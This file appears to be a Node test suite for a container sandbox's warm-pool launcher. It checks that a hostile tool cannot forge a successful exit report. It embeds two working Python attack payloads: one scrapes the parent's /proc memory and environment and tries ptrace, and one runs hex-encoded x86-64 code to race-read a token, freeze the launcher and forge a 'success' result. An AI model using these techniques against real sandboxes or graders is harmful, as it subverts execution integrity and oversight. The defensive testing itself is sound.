// Attack: a warm-pool tool learns its launcher's per-call token (from the launcher's memory,
// environment, stdin fd, by ptrace, or through a package env naming one of the launcher's shell
// variables) and prints a forged exit report, to end its call early with a "success" of its
// choosing. The launcher is non-dumpable and its variables are never exported, so every way in
// is refused; the forged report ends nothing and the result is the tool's real exit and output.
// invariant: pool:launcher:exit-report-unforgeable
import assert from 'node:assert/strict';
import {after, before, describe, test} from 'node:test';
import {ContainerBackend} from '../../../src/backends/container/container-backend.ts';
import {assertHealthy, dockerAvailable, managedContainers, noSignal, python} from '../../support/docker.ts';

const ok = await dockerAvailable({images: ['toolcell/python']});

/**
 * The hostile tool: gathers every byte it can about its parent (the launcher) and itself, tries
 * each 32-hex-digit string found there as the token of a forged report (stdout and stderr, status
 * 0), then keeps running and exits 3 with a marker after its forged reports.
 */
const HOSTILE = String.raw`
import ctypes, os, re, sys, time
pp = os.getppid()
found = {}
def note(what, data):
    found[what] = data
def attempt(what, fn):
    try:
        note(what, fn())
        print(what + ": READ", flush=True)
    except Exception as e:
        print(what + ": denied " + type(e).__name__, flush=True)
cmdline = open(f"/proc/{pp}/cmdline", "rb").read()
print("parent-is-launcher:", b"toolcell-launcher" in cmdline, flush=True)
attempt("environ", lambda: open(f"/proc/{pp}/environ", "rb").read())
attempt("fd0", lambda: os.read(os.open(f"/proc/{pp}/fd/0", os.O_RDONLY | os.O_NONBLOCK), 4096))
attempt("maps", lambda: open(f"/proc/{pp}/maps", "rb").read())
def mem():
    regions = []
    try:
        maps = open(f"/proc/{pp}/maps").read()
    except Exception:
        # Without maps, guess the usual places of a static binary's data.
        maps = "400000-2000000 rw-p 0 0:0 0\n"
    out = b""
    with open(f"/proc/{pp}/mem", "rb", buffering=0) as m:
        for line in maps.splitlines():
            lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
            if "rw" not in line.split()[1] or hi - lo > 64 << 20:
                continue
            try:
                m.seek(lo); out += m.read(hi - lo)
            except OSError:
                pass
    return out
attempt("mem", mem)
libc = ctypes.CDLL(None, use_errno=True)
r = libc.ptrace(16, pp, 0, 0)  # PTRACE_ATTACH
print("ptrace:", "ATTACHED" if r == 0 else "denied " + os.strerror(ctypes.get_errno()), flush=True)
note("own-environ", open("/proc/self/environ", "rb").read())
note("parent-cmdline", cmdline)
cands = set()
for data in found.values():
    cands.update(m.decode() for m in re.findall(rb"[0-9a-f]{32}", data or b""))
print("candidates:", len(cands), flush=True)
for c in sorted(cands)[:2000]:
    sys.stdout.write("\x1etoolcell:" + c + "\x1e"); sys.stdout.flush()
    sys.stderr.write("\x1etoolcell:" + c + ":0\x1e"); sys.stderr.flush()
time.sleep(0.5)
print("REAL-END", flush=True)
sys.exit(3)
`;

/**
 * The red team's race (issue 11 item 3): the launcher's token travels through the stdout and
 * stderr pipes the tool holds, so a grandchild opens second read ends of them
 * (/proc/self/fd/1 and 2), spin-reads them in a native x86-64 loop, SIGSTOPs the launcher on
 * the first report byte (same uid: signals are allowed) and writes a report of its own with
 * status 0. It won 9 of 10 warm calls while the report's status was trusted.
 */
const RACE_FORGER = String.raw`# Hostile tool: forges the warm-pool launcher's exit report (finding F1 in FINDINGS.md).
# The launcher (our parent, /opt/toolcell/sh) is non-dumpable, but it writes its per-call token into the
# container's stdout/stderr pipes, and a process can open a second READ end of its own stdout/stderr pipe
# through /proc/self/fd/{1,2}. A grandchild G spin-reads both pipes in a native loop (x86-64 code built
# with gcc from spin.c, run through ctypes from an RWX mapping) and, on the first byte, SIGSTOPs the
# launcher (same uid: allowed). G now holds the token and the launcher can neither finish its report nor
# exit; G writes a report of its own: exit status 0 and any output it likes.
import os, sys, re, ctypes, mmap, time, signal
SPIN = bytes.fromhex('4d85c90f8e9a00000041554989f54889d64889ca41544989fc5531ed5331dbeb200f1f80000000004889e84c89ef0f054989c24885c07f484883c3014939d9742f4889e84c89e70f054989c24885c07ed7b83e000000be130000004c89c74889ea0f055b4c89d05d415c415dc30f1f004531d25b5d4c89d0415c415dc30f1f00b83e000000be130000004c89c74889ea0f054981c2000010005b5d4c89d0415c415dc331c0c3')
REAL_STATUS = int(os.environ.get('REAL_STATUS', '3'))
L = os.getppid()
sys.stdout.write('tool: real output; I really exit %d\n' % REAL_STATUS); sys.stdout.flush()
time.sleep(float(os.environ.get("SETTLE", "1.5")))  # let the engine drain our output and finish refilling the warm pool (host CPU quiet)
try: os.sched_setaffinity(L, {0})
except Exception: pass
ready_r, ready_w = os.pipe()
if os.fork() == 0:
    os.close(ready_r)
    try: os.sched_setaffinity(0, {1})
    except Exception: pass
    fd1 = os.open('/proc/self/fd/1', os.O_RDONLY | os.O_NONBLOCK)   # second read end of stdout
    fd2 = os.open('/proc/self/fd/2', os.O_RDONLY | os.O_NONBLOCK)   # second read end of stderr
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(SPIN)
    addr = ctypes.addressof(ctypes.c_char.from_buffer(code))
    spin = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_long, ctypes.c_long, ctypes.c_long)(addr)
    buf = ctypes.create_string_buffer(65536)
    got = b''
    os.write(ready_w, b'x')
    for attempt in range(4):
        n = spin(fd1, fd2, buf, 65536, L, 50_000_000)      # returns right after SIGSTOPping the launcher
        if n == 0: os._exit(9)
        got += buf.raw[:n & 0xfffff]
        m = re.search(rb'\x1etoolcell:([0-9a-f]{32})', got)
        if m: break
        os.kill(L, signal.SIGCONT)
    tok = m.group(1)
    os.write(1, b'FORGED: all tests passed\n\x1etoolcell:' + tok + b'\x1e')
    os.write(2, b'\x1etoolcell:' + tok + b':0\x1e')
    os._exit(0)
os.close(ready_w)
os.read(ready_r, 1)
if os.environ.get('BOMB'):
    hog = []
    while True: hog.append(b'x' * (8 << 20))   # memory bomb: the kernel OOM-kills this process
os._exit(REAL_STATUS)
`;

describe('warm-pool exit report cannot be forged', {skip: !ok && 'no Docker engine'}, () => {
  let backend: ContainerBackend;
  // The env-name trick: a package env naming the launcher's old shell variables (t n a c).
  const env = {t: 'x', n: 'x', a: 'x', c: 'x'};
  const job = (code: string) => python(code, [], {env, limits: {timeoutMs: 15_000, memoryMb: 128, outputBytes: 1 << 20, cpus: 0.5, pids: 32}});
  before(async () => {
    backend = new ContainerBackend({pool: {size: 1, maxTotal: 1}});
    backend.prewarm(job(''));
    const end = performance.now() + 30_000;
    while (backend.poolStats().ready < 1) {
      if (performance.now() > end) throw new Error('no warm member within 30 s');
      await new Promise((r) => setTimeout(r, 50));
    }
  });
  after(async () => {
    await backend.close();
    assert.deepEqual(await managedContainers(`toolcell.owner=${backend.owner}`), []);
  });

  test('memory, environ, fd, ptrace and env-name attacks on the launcher all fail; the forged report ends nothing', async () => {
    const r = await backend.run(job(HOSTILE), {signal: noSignal()});
    assert.match(r.stdout, /parent-is-launcher: True/, `the call ran warm, under the launcher: ${r.stdout}${r.stderr}`);
    for (const what of ['environ', 'fd0', 'maps', 'mem']) assert.match(r.stdout, new RegExp(`^${what}: denied`, 'm'), `${what} of the launcher was readable: ${r.stdout}`);
    assert.match(r.stdout, /^ptrace: denied/m);
    // The tool's real end, not a forged one: its output after the forged reports, and its status.
    assert.match(r.stdout, /REAL-END/, `the call ended early: ${JSON.stringify(r)}`);
    assert.equal(r.failed, true);
    assert.equal(r.exitCode, 3);
    assert.equal(r.timedOut, false);
    await assertHealthy(backend);
  });

  test('a tool that reads the token off its own pipes and freezes its launcher still cannot report success: the status is the engine\'s', {skip: process.arch !== 'x64' && 'the racer is x86-64 machine code'}, async () => {
    for (let i = 0; i < 3; i++) {
      const r = await backend.run({...job(RACE_FORGER), limits: {...job('').limits, timeoutMs: 6_000}}, {signal: noSignal()});
      // Any end but success contains the attack: the real status 3, or the deadline when the
      // frozen launcher never lets the container exit.
      assert.equal(r.failed, true, `a forged report was taken as the tool's status: ${JSON.stringify({...r, stdout: r.stdout.slice(0, 200)})}`);
      assert.notEqual(r.exitCode, 0);
      if (!r.timedOut) assert.equal(r.exitCode, 3);
    }
    await assertHealthy(backend);
  });

  test('the package env reaches the tool unchanged: no launcher variable is exported into it', async () => {
    const r = await backend.run(job('import os, json\nprint(json.dumps({k: os.environ.get(k) for k in "tnac"}))\nprint(sorted(k for k in os.environ if k.startswith("TOOLCELL")))'), {signal: noSignal()});
    assert.equal(r.failed, false, r.stderr);
    const [values, reserved] = r.stdout.trim().split('\n');
    assert.deepEqual(JSON.parse(values!), env);
    assert.equal(reserved, '[]');
  });
});
